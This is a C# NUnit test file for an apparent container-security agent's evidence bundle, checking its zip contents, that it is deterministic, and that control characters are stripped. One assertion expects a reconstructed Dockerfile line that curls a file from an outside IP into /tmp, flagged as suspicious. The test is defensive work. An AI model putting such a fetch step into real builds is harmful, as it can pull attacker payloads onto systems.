using System.IO.Compression;
using System.Text.Json.Nodes;
using Google.Protobuf;
using ImageSentinel.Agent.Outputs.Render;
using ImageSentinel.V1;
using NUnit.Framework;

namespace ImageSentinel.Tests.Agent;

[TestFixture]
public sealed class EvidenceBundleTests
{
    [Test]
    public void A_bundle_holds_finding_build_dockerfile_story_and_capture()
    {
        using ZipArchive archive = Bundle("attack.jsonl", [1, 2, 3]);

        JsonNode finding = JsonNode.Parse(Text(archive, "finding.ocsf.json"))!;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(
                archive.Entries.Select(static e => e.Name),
                Is.EqualTo(new[] { "finding.ocsf.json", "build.json", "Dockerfile", "story.txt", "capture.iscap" }));
            Assert.That((int)finding["class_uid"]!, Is.EqualTo(2004));
            Assert.That(finding["unmapped"]!["timeline"]!.AsArray(), Has.Count.GreaterThan(4));
            Assert.That(finding["unmapped"]!["files"]![0]!["path"]!.GetValue<string>(), Is.EqualTo("/tmp/x"));
            Assert.That(finding["unmapped"]!["verdict"]!.GetValue<string>(), Is.EqualTo("suspicious"));
            Assert.That(Text(archive, "Dockerfile"), Does.Contain("FROM alpine:3.20\n").And.Contains("RUN curl http://203.0.113.66/x -o /tmp/x\n"));
            Assert.That(Text(archive, "story.txt"), Does.Contain("came out: image app:latest"));
        }
    }

    [Test]
    public void The_same_finding_makes_the_same_bundle()
    {
        byte[] first = Bytes("attack.jsonl", [1]);
        byte[] second = Bytes("attack.jsonl", [1]);

        Assert.That(second, Is.EqualTo(first));
    }

    [Test]
    public void Nothing_hostile_is_written_raw_into_what_a_person_reads()
    {
        using ZipArchive archive = Bundle("hostile.jsonl", []);

        foreach (string name in (string[])["story.txt", "Dockerfile"])
        {
            if (archive.GetEntry(name) is not null)
            {
                Assert.That(Text(archive, name).Any(static c => char.IsControl(c) && c != '\n'), Is.False, name);
            }
        }
    }

    private static byte[] Bytes(string corpus, byte[] capture)
    {
        var story = new ExplainResponse { Finding = AgentCorpus.Finding(corpus), Capture = ByteString.CopyFrom(capture) };
        if (AgentCorpus.Records(corpus).Select(static r => r.Build).FirstOrDefault(static b => b is not null) is { } build)
        {
            story.Build = build;
        }

        var file = new MemoryStream();
        EvidenceBundle.Write(file, story);
        return file.ToArray();
    }

    private static ZipArchive Bundle(string corpus, byte[] capture) => new(new MemoryStream(Bytes(corpus, capture)), ZipArchiveMode.Read);

    private static string Text(ZipArchive archive, string name)
    {
        using var reader = new StreamReader(archive.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }
}
